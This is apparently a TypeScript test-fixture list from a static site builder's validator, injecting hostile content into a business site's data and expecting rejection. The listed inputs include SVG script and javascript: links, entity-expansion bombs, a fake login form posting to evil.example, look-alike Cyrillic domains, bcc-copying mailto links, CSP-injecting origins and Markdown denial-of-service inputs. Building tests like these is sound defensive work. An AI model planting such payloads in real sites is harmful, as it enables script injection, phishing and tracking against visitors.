    file: 'images/hostile/js-link.svg', rule: 'image/svg-active', line: 3, mentions: 'javascript:',
  },
  {
    id: 'svg-external-image', what: 'an SVG that loads a tracking pixel from another host', expect: 'fails',
    apply: put('images/hostile/pixel.svg', svg('<image href="https://tracker.example/p.png" width="1" height="1"/>')),
    file: 'images/hostile/pixel.svg', rule: 'image/svg-active', line: 3, mentions: 'https://tracker.example/p.png',
  },
  {
    id: 'svg-external-use', what: 'an SVG <use> of a sprite on another host', expect: 'fails',
    apply: put('images/hostile/use.svg', svg('<use href="//evil.example/sprite.svg#icon"/>')),
    file: 'images/hostile/use.svg', rule: 'image/svg-active', line: 3,
  },
  {
    id: 'svg-css-import', what: 'an SVG <style> that imports CSS from another host', expect: 'fails',
    apply: put('images/hostile/import.svg', svg('<style>@import url("https://evil.example/x.css"); rect { fill: url(https://evil.example/f.svg#g) }</style>')),
    file: 'images/hostile/import.svg', rule: 'image/svg-active', line: 3, mentions: '@import',
  },
  {
    id: 'svg-entity-bomb', what: 'an SVG with an entity expansion bomb in its DOCTYPE', expect: 'fails',
    apply: put('images/hostile/entities.svg', svg('<text>&e;</text>', `<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY a "lollollollol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY e "&b;&b;&b;&b;&b;&b;&b;&b;">]>\n`)),
    file: 'images/hostile/entities.svg', rule: 'image/svg-active', line: 2, mentions: 'entities',
  },
  {
    id: 'svg-animated-href', what: 'an SVG <set> that turns a link into javascript: while shown', expect: 'fails',
    apply: put('images/hostile/set.svg', svg('<a><set attributeName="href" to="javascript:alert(56)"/><text>x</text></a>')),
    file: 'images/hostile/set.svg', rule: 'image/svg-active', line: 3, mentions: '<set>',
  },
  {
    id: 'svg-xml-stylesheet', what: 'an SVG that loads an XSLT/CSS stylesheet with <?xml-stylesheet?>', expect: 'fails',
    apply: put('images/hostile/xsl.svg', svg('', '<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>\n')),
    file: 'images/hostile/xsl.svg', rule: 'image/svg-active', line: 1, mentions: 'stylesheet',
  },
  {
    id: 'svg-utf16', what: 'an SVG saved as UTF-16, whose script a browser reads by its byte-order mark', expect: 'fails', build: true,
    apply: put('images/hostile/utf16.svg', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(svg('<script>window.__pwned = 60</script>'), 'utf16le')])),
    file: 'images/hostile/utf16.svg', rule: 'image/svg-active', line: 1, mentions: 'UTF-16',
  },
  {
    id: 'svg-xhtml-refresh', what: 'an XHTML page saved as .svg that sends the visitor elsewhere with <meta refresh>', expect: 'fails', build: true, wholeFile: true,
    apply: put('images/hostile/page.svg', '<html xmlns="http://www.w3.org/1999/xhtml"><head><meta http-equiv="refresh" content="0;url=https://evil.example/"/></head><body/></html>\n'),
    file: 'images/hostile/page.svg', rule: 'image/not-a-picture', mentions: 'web page',
  },
  {
    id: 'svg-escaped-css-url', what: 'an SVG style that loads from another host through a CSS-escaped url()', expect: 'fails',
    apply: put('images/hostile/escaped.svg', svg('<rect width="5" height="5" style="fill: u\\72l(https://evil.example/f.svg#g)"/>')),
    file: 'images/hostile/escaped.svg', rule: 'image/svg-active', line: 3, mentions: 'https://evil.example/f.svg',
  },
  {
    id: 'html-as-ico', what: 'a web page saved under an icon\'s name (.ico)', expect: 'fails', build: true, wholeFile: true,
    apply: put('images/favicon.ico', '<!doctype html><script>window.__pwned = 61</script>\n'),
    file: 'images/favicon.ico', rule: 'image/not-a-picture',
  },
  {
    id: 'png-as-svg', what: 'a PNG picture saved under an .svg name', expect: 'fails', wholeFile: true,
    apply: put('images/hostile/photo.svg', Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex')),
    file: 'images/hostile/photo.svg', rule: 'image/not-a-picture',
  },
  {
    id: 'script-file-in-images', what: 'a .js file dropped into data/images (same-origin script under the CSP)', expect: 'fails', build: true, wholeFile: true,
    apply: put('images/payload.js', 'window.__pwned = 57;\n'),
    file: 'images/payload.js', rule: 'image/not-an-image',
  },
  {
    id: 'html-file-in-images', what: 'an HTML page dropped into data/images', expect: 'fails', wholeFile: true,
    apply: put('images/team/login.html', '<!doctype html><form action="https://evil.example/"><input name="password"></form><script>window.__pwned = 58</script>\n'),
    file: 'images/team/login.html', rule: 'image/not-an-image',
  },
  {
    id: 'svg-renamed-as-xml', what: 'an SVG saved with a .xml extension', expect: 'fails', wholeFile: true,
    apply: put('images/hostile/drawing.xml', svg('<script>alert(59)</script>')),
    file: 'images/hostile/drawing.xml', rule: 'image/not-an-image',
  },

  // ------------------------------------------------------------------ fails: links that leave the site or lead nowhere
  {
    id: 'nav-protocol-relative', what: 'a protocol-relative navigation link (//evil.example)', expect: 'fails', build: true,
    apply: sub('navigation.yaml', '- { label: Contact, href: /contact }', '- { label: Contact, href: "//evil.example/contact" }'),
    file: 'navigation.yaml', rule: 'link/off-site', mentions: '//evil.example/contact',
  },
  {
    id: 'nav-backslash', what: 'a backslash navigation link (/\\evil.example)', expect: 'fails',
    apply: sub('navigation.yaml', '- { label: Contact, href: /contact }', '- { label: Contact, href: "/\\\\evil.example" }'),
    file: 'navigation.yaml', rule: 'link/off-site',
  },
  {
    id: 'footer-protocol-relative', what: 'a protocol-relative footer link, shown on every page', expect: 'fails',
    apply: sub('navigation.yaml', '\n    - { label: Plumbing, href: /services/plumbing }', '\n    - { label: Plumbing, href: "//evil.example/plumbing" }'),
    file: 'navigation.yaml', rule: 'link/off-site', line: 77,
  },
  {
    id: 'nav-tab-in-path', what: 'a navigation link with a tab between its slashes (/<tab>/evil.example)', expect: 'fails',
    apply: sub('navigation.yaml', '- { label: Contact, href: /contact }', '- { label: Contact, href: "/\\t/evil.example" }'),
    file: 'navigation.yaml', rule: 'link/off-site',
  },
  {
    id: 'nav-unknown-route', what: 'a navigation link to a page that does not exist', expect: 'fails',
    apply: sub('navigation.yaml', '- { label: Contact, href: /contact }', '- { label: Contact, href: /contcat }'),
    file: 'navigation.yaml', rule: 'link/unknown-path', mentions: 'did you mean "/contact"',
  },
  {
    id: 'markdown-protocol-relative', what: 'a protocol-relative link in a post', expect: 'fails', build: true,
    apply: inPost('[HX60 pay here](//evil.example/pay)'),
    file: POST, rule: 'link/off-site', line: 10,
  },
  {
    id: 'markdown-backslash', what: 'a backslash link in a post', expect: 'fails',
    apply: inPost('[HX61](/\\evil.example)'),
    file: POST, rule: 'link/off-site', line: 10,
  },
  {
    id: 'markdown-entity-slashes', what: 'a link whose slashes are written as entities (&#47;&#47;evil.example)', expect: 'fails',
    apply: inPost('[HX62](&#47;&#47;evil.example)'),
    file: POST, rule: 'link/off-site', line: 10,
  },
  {
    id: 'markdown-reference-definition', what: 'a protocol-relative reference definition in a legal page', expect: 'fails',
    apply: sub(PAGE, '## The Short Version', '[HX63 policy][p]\n\n[p]: //evil.example/policy\n\n## The Short Version'),
    file: PAGE, rule: 'link/off-site',
  },
  {
    id: 'markdown-image-off-site', what: 'a Markdown image from another host written as //host', expect: 'fails',
    apply: inPost('![HX64](//evil.example/pixel.png)'),
    file: POST, rule: 'link/off-site', line: 10,
  },
  {
    id: 'markdown-external-image', what: 'a tracking pixel from another host as a Markdown image', expect: 'fails',
    apply: inPost('![HX71](https://tracker.example/pixel.png)'),
    file: POST, rule: 'link/external-image', line: 10, mentions: 'data/images',
  },
  {
    id: 'markdown-external-reference-image', what: 'a tracking pixel from another host as a reference-style Markdown image', expect: 'fails',
    apply: inPost('![HX72][pixel]\n\n[pixel]: https://tracker.example/pixel.png'),
    file: POST, rule: 'link/external-image', line: 12, mentions: 'data/images',
  },
  {
    id: 'markdown-javascript-link', what: 'javascript:, vbscript: and data: links in a post', expect: 'fails',
    apply: inPost('[HX65 js](javascript:window.__pwned=65) [vb](vbscript:msgbox(65)) [data](data:text/html;base64,PHNjcmlwdD4=)'),
    file: POST, rule: 'link/scheme', line: 10, mentions: '"javascript:"',
  },
  {
    id: 'markdown-javascript-link-legal', what: 'a javascript: link in a legal page', expect: 'fails',
    apply: sub(PAGE, '## The Short Version', '[HX66 link](javascript:alert(66))\n\n## The Short Version'),
    file: PAGE, rule: 'link/scheme',
  },
  {
    id: 'markdown-other-scheme', what: 'an sms: and an ftp: link in a post', expect: 'fails',
    apply: inPost('[HX67](ftp://evil.example/x) [text](sms:+15555550100)'),
    file: POST, rule: 'link/scheme', line: 10,
  },
  {
    id: 'markdown-unknown-route', what: 'a post link to a page that does not exist', expect: 'fails',
    apply: inPost('[HX68](/servcies/plumbing)'),
    file: POST, rule: 'link/unknown-path', line: 10, mentions: '/services/plumbing',
  },
  {
    id: 'markdown-unknown-package', what: 'a post link to an unknown ?package= id', expect: 'fails',
    apply: inPost('[HX69](/packages?package=premum)'),
    file: POST, rule: 'link/unknown-query', line: 10, mentions: 'did you mean "premium"',
  },
  {
    id: 'markdown-unknown-fragment', what: 'a post link to a heading that is not on the target post', expect: 'fails',
    apply: inPost('[HX70](/blog/kitchen-renovation#the-order-of-wrok)'),
    file: POST, rule: 'link/fragment', line: 10, mentions: 'the-order-of-work',
  },

  // ------------------------------------------------------------------ fails: third-party origins
  {
    id: 'map-embed-untrusted', what: 'a map embed URL on a host not in trustedOrigins (framed on the page, CSP would widen)', expect: 'fails', build: true,
    apply: sub('site.yaml', 'embedUrl: "https://www.google.com/maps?q=Colorado+Springs,+CO&output=embed"', 'embedUrl: "https://maps.evil.example/embed"'),
    file: 'site.yaml', rule: 'origin/untrusted', mentions: 'links.maps.colorado.embedUrl',
  },
  {
    id: 'policy-script-untrusted', what: 'a policy service script on a host not in trustedOrigins', expect: 'fails',
    apply: sub('site.yaml', '  policyService: null', '  policyService:\n    scriptUrl: https://cdn.evil.example/loader.js\n    frameUrl: { privacy: "https://www.google.com/p", terms: "https://www.google.com/t", disclaimer: "https://www.google.com/d" }'),
    file: 'site.yaml', rule: 'origin/untrusted', mentions: 'links.policyService.scriptUrl',
  },
  {
    id: 'form-endpoint-untrusted', what: 'a form endpoint on a host not in trustedOrigins', expect: 'fails',
    apply: sub('site.yaml', '  provider: netlify', '  provider: endpoint\n  endpoint: { url: "https://collect.evil.example/f/1", encoding: json, acceptsFiles: false }'),
    file: 'site.yaml', rule: 'forms/untrusted-origin', mentions: 'https://collect.evil.example',
  },

  // ------------------------------------------------------------------ fails: Markdown that would crash or stall the build
  {
    id: 'markdown-nested-quotes', what: '1,500 nested > in a post (1.5 KB; a stack overflow before)', expect: 'fails', build: true,
    apply: inPost(`${'>'.repeat(1500)} deep`),
    file: POST, rule: 'markdown/too-deep', line: 10, mentions: 'blockquotes nested 1,500 deep; at most 20',
  },
  {
    id: 'markdown-nested-lists', what: 'lists nested 1,000 deep by indentation', expect: 'fails',
    apply: inPost(Array.from({ length: 1000 }, (_, i) => `${'  '.repeat(i)}- item`).join('\n')),
    file: POST, rule: 'markdown/too-deep', line: 1009, mentions: 'lists nested 1,000 deep',
  },
  {
    id: 'markdown-huge-nested-lists', what: 'a 1.9 MB post of deeply nested lists (105 s, then a crash, before)', expect: 'fails', build: true,
    apply: put('posts/huge-lists.md', post(validFrontMatter('Huge lists'), Array.from({ length: 1900 }, () => Array.from({ length: 30 }, (_, i) => `${'  '.repeat(i)}- x`).join('\n')).join('\n').slice(0, 1_900_000))),
    file: 'posts/huge-lists.md', rule: 'markdown/too-large', line: 10,
  },
  {
    id: 'markdown-emphasis-run', what: '20,000 nested emphasis markers in one paragraph', expect: 'fails',
    apply: inPost(`${'*a '.repeat(20_000)}b`),
    file: POST, rule: 'markdown/too-many-markers', line: 10,
  },
  {
    id: 'markdown-backtick-runs', what: '10,000 backticks in runs of every length', expect: 'fails',
    apply: inPost(Array.from({ length: 1400 }, (_, i) => `${'`'.repeat((i % 14) + 1)}${i % 50 === 49 ? '\n' : ' '}`).join('')),
    file: POST, rule: 'markdown/too-many-markers', line: 10, mentions: 'backticks',
  },
  {
    id: 'markdown-brackets', what: '100,000 [ in a post', expect: 'fails',
    apply: inPost(Array.from({ length: 20 }, () => '['.repeat(5000)).join('\n')),
    file: POST, rule: 'markdown/too-many-markers', line: 10, mentions: '"[" characters',
  },
  {
    id: 'markdown-huge-table', what: 'a 20,000-row table', expect: 'fails',
    apply: inPost(Array.from({ length: 20_000 }, (_, i) => `| ${i} | a | b | c |`).join('\n')),
    file: POST, rule: 'markdown/too-large',
  },
  {
    id: 'markdown-huge-line', what: 'a 1 MB line in a post', expect: 'fails', build: true,
    apply: sub('posts/kitchen-renovation.md', 'This guide covers the planning', `HX26 huge line: ${'lorem ipsum <b>dolor</b> '.repeat(Math.ceil(1_048_576 / 25))}\n\nThis guide covers the planning`),
    file: 'posts/kitchen-renovation.md', rule: 'markdown/line-too-long', mentions: 'at most 10,000',
  },
  {
    id: 'markdown-angle-brackets', what: '100,000 < in a legal page', expect: 'fails',
    apply: sub(PAGE, '## The Short Version', `${Array.from({ length: 10 }, () => '<'.repeat(4000)).join('\n')}\n\n## The Short Version`),
    file: PAGE, rule: 'markdown/too-many-markers', mentions: '"<" characters',
  },
  // What is published is the text with its business facts filled in: a fact is text wherever it is used, and the
  // filled text is held to the limits.
  {
    id: 'fact-markdown-in-post', what: 'a fact holding a tracking image, a link, HTML and 300 nested quotes, used in a post', expect: 'builds',
    apply: all(
      setLine('site.yaml', 'travelFee:', `travelFee: ${q(`Travel fee ![pixel](https://tracker.example/p.png) [win](javascript:window.__pwned=97) <b onmouseover="window.__pwned=98">bold</b> ${'> '.repeat(300)}end`)}`),
      inPost('Before you book: {policies.travelFee}'),
    ),
    visible: ['![pixel](https://tracker.example/p.png) [win](javascript:window.__pwned=97)'],
  },
  {
    id: 'fact-huge-tagline', what: 'a 200 KB tagline, shown on every page', expect: 'fails', build: true,
    apply: setLine('site.yaml', 'tagline:', `tagline: ${q('Skilled help. '.repeat(15_000))}`),
    file: 'site.yaml', rule: 'site/fact-too-long', line: 4, mentions: 'at most 1,000',
  },
  {
    id: 'fact-many-times-in-post', what: 'a 900-character fact used 600 times in a post', expect: 'fails',
    apply: all(
      setLine('site.yaml', 'travelFee:', `travelFee: ${q('Fee. '.repeat(180))}`),
      inPost(Array.from({ length: 60 }, () => '{policies.travelFee} '.repeat(10)).join('\n')),
    ),
    file: POST, rule: 'markdown/too-large', mentions: 'site.yaml:50',
  },
  {
    id: 'fact-long-line-in-page', what: 'a line of a legal page with a 900-character fact 15 times', expect: 'fails',
    apply: all(
      setLine('site.yaml', 'travelFee:', `travelFee: ${q('Fee. '.repeat(180))}`),
      sub(PAGE, '## The Short Version', `${'{policies.travelFee} '.repeat(15)}\n\n## The Short Version`),
    ),
    file: PAGE, rule: 'markdown/line-too-long', mentions: '{policies.travelFee}',
  },
  {
    id: 'fact-many-times-in-faq', what: 'a FAQ answer (YAML) with a 900-character fact 15 times', expect: 'fails',
    apply: all(
      setLine('site.yaml', 'travelFee:', `travelFee: ${q('Fee. '.repeat(180))}`),
      sub('faq.yaml', 'miles from our main office. {policies.travelFee}', `miles from our main office. ${'{policies.travelFee} '.repeat(15)}`),
    ),
    file: 'faq.yaml', rule: 'text/too-long', line: 46, mentions: 'at most 10,000',
  },
  // Addresses that reach a header, a host config or a visitor's browser are parsed, and refused by what they could do.
  {
    id: 'origin-wildcard', what: 'a wildcard origin in trustedOrigins', expect: 'fails',
    apply: sub('site.yaml', 'trustedOrigins: [https://www.google.com]', 'trustedOrigins: [https://www.google.com, "https://*.google.com"]'),
    file: 'site.yaml', rule: 'address/origin', line: 98, mentions: 'wildcard',
  },
  {
    id: 'origin-semicolon', what: 'an origin that would add a sandbox directive to the CSP', expect: 'fails',
    apply: sub('site.yaml', 'trustedOrigins: [https://www.google.com]', 'trustedOrigins: [https://www.google.com, "https://a;sandbox,b"]'),
    file: 'site.yaml', rule: 'address/origin', line: 98, mentions: 'not a site',
  },
  {
    id: 'origin-quote', what: 'an origin with a quote that would break nginx.conf', expect: 'fails',
    apply: sub('site.yaml', 'trustedOrigins: [https://www.google.com]', 'trustedOrigins: [https://www.google.com, \'https://a"b.com\']'),
    file: 'site.yaml', rule: 'address/origin', line: 98, mentions: 'not a site',
  },
  {
    id: 'origin-lookalike', what: 'a Cyrillic look-alike of www.google.com', expect: 'fails',
    apply: sub('site.yaml', 'trustedOrigins: [https://www.google.com]', 'trustedOrigins: [https://www.google.com, "https://www.gооgle.com"]'),
    file: 'site.yaml', rule: 'address/origin', line: 98, mentions: 'alphabets',
  },
  {
    id: 'base-url-credentials', what: 'baseUrl with a user part that points at another host', expect: 'fails',
    apply: sub('site.yaml', 'baseUrl: https://www.ridgelinehandyman.example', 'baseUrl: "https://www.ridgelinehandyman.example@evil.test"'),
    file: 'site.yaml', rule: 'address/base-url', line: 6, mentions: 'user name',
  },
  {
    id: 'base-url-query', what: 'baseUrl with a query', expect: 'fails',
    apply: sub('site.yaml', 'baseUrl: https://www.ridgelinehandyman.example', 'baseUrl: "https://www.ridgelinehandyman.example?ref=x"'),
    file: 'site.yaml', rule: 'address/base-url', line: 6, mentions: 'no path, query',
  },
  {
    id: 'email-bcc', what: 'the business email with a bcc parameter', expect: 'fails',
    apply: sub('site.yaml', 'email: hello@ridgelinehandyman.example', 'email: "hello@ridgelinehandyman.example?bcc=spy@evil.test"'),
    file: 'site.yaml', rule: 'schema/format', line: 14, mentions: 'an email address',
  },
  {
    id: 'email-two', what: 'two addresses as the business email', expect: 'fails',
    apply: sub('site.yaml', 'email: hello@ridgelinehandyman.example', 'email: "hello@ridgelinehandyman.example,spy@evil.test"'),
    file: 'site.yaml', rule: 'schema/format', line: 14, mentions: 'an email address',
  },
  {
    id: 'booking-credentials', what: 'a booking link with a user part', expect: 'fails',
    apply: sub('site.yaml', 'booking: https://book.ridgelinehandyman.example/schedule', 'booking: "https://book.ridgelinehandyman.example@evil.test/schedule"'),
    file: 'site.yaml', rule: 'address/web', line: 72, mentions: 'user name',
  },
  {
    id: 'booking-http', what: 'a booking link over plain http', expect: 'fails',
    apply: sub('site.yaml', 'booking: https://book.ridgelinehandyman.example/schedule', 'booking: "http://book.ridgelinehandyman.example/schedule"'),
    file: 'site.yaml', rule: 'address/web', line: 72, mentions: 'https://',
  },
  {
    id: 'post-mailto-bcc', what: 'a mailto: link in a post that copies every message to another address', expect: 'fails',
    apply: inPost('Write to [us](mailto:hello@ridgelinehandyman.example?bcc=spy@evil.test).'),
    file: POST, rule: 'link/email', mentions: 'nothing after it',
  },
  {
    id: 'page-link-credentials', what: 'a link in a legal page that looks like google.com and opens evil.test', expect: 'fails',
    apply: sub(PAGE, '## The Short Version', '[Google](https://www.google.com@evil.test/privacy)\n\n## The Short Version'),
    file: PAGE, rule: 'link/address', mentions: 'user name',
  },
  {
    id: 'post-link-lookalike', what: 'a link in a post to a look-alike (Cyrillic) paypal.com', expect: 'fails',
    apply: inPost('Pay at [PayPal](https://www.p\u0430ypal.com/pay).'),
    file: POST, rule: 'link/address', mentions: 'alphabets',
  },
  {
    id: 'yaml-mailto-stray-percent', what: 'a mailto: with a stray "%" as the booking link', expect: 'fails',
    apply: sub('site.yaml', 'booking: https://book.ridgelinehandyman.example/schedule', 'booking: "mailto:%zz@ridgelinehandyman.example"'),
    file: 'site.yaml', rule: 'schema/pattern', line: 72,
  },
  {
    id: 'post-mailto-stray-percent', what: 'a mailto: link in a post with a stray "%"', expect: 'fails',
    apply: inPost('Write to [us](mailto:hello%zz@ridgelinehandyman.example).'),
    file: POST, rule: 'link/email', mentions: 'two hex digits',
  },
];

export const buildsCases = hostileCases.filter((c): c is BuildsCase => c.expect === 'builds');
export const failsCases = hostileCases.filter((c): c is FailsCase => c.expect === 'fails');

/** Applies every `builds` case to one data copy (they touch different fields). */
export async function applyBuildsCases(dataDir: string): Promise<void> {
  for (const c of buildsCases) await c.apply(dataDir);
}

